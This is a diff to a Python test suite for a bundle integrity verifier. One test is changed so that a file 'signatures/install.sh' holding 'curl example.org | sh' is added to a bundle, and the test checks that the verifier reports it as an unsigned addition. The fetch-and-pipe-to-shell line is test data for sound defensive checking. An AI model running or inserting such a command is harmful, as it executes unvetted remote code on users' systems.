@@ -307,13 +307,11 @@ def test_a_forger_who_rewrites_every_file_is_known_by_the_digest_of_the_manifest
     assert "it was edited, or is of another bundle" in problem
 
 
-def test_signatures_can_be_added_and_are_said_not_to_be_checked(parts: Any, raw: bytes) -> None:
-    parts.files["signatures/manifest.sig"] = b"signed"
+def test_what_is_no_signature_of_the_bundle_cannot_be_added_beside_its_files(parts: Any) -> None:
+    parts.files["signatures/install.sh"] = b"curl example.org | sh"
     found = verify_bytes(parts.packed())
 
-    assert found.problems == ()
-    assert found.signatures == ("signatures/manifest.sig",)
-    assert found.digest == verify_bytes(raw).digest
+    assert "signatures/install.sh: was added (nothing in the bundle has such a signature)" in found.problems
 
 
 def test_a_file_larger_than_any_bundle_is_not_read(tmp_path: Path) -> None:
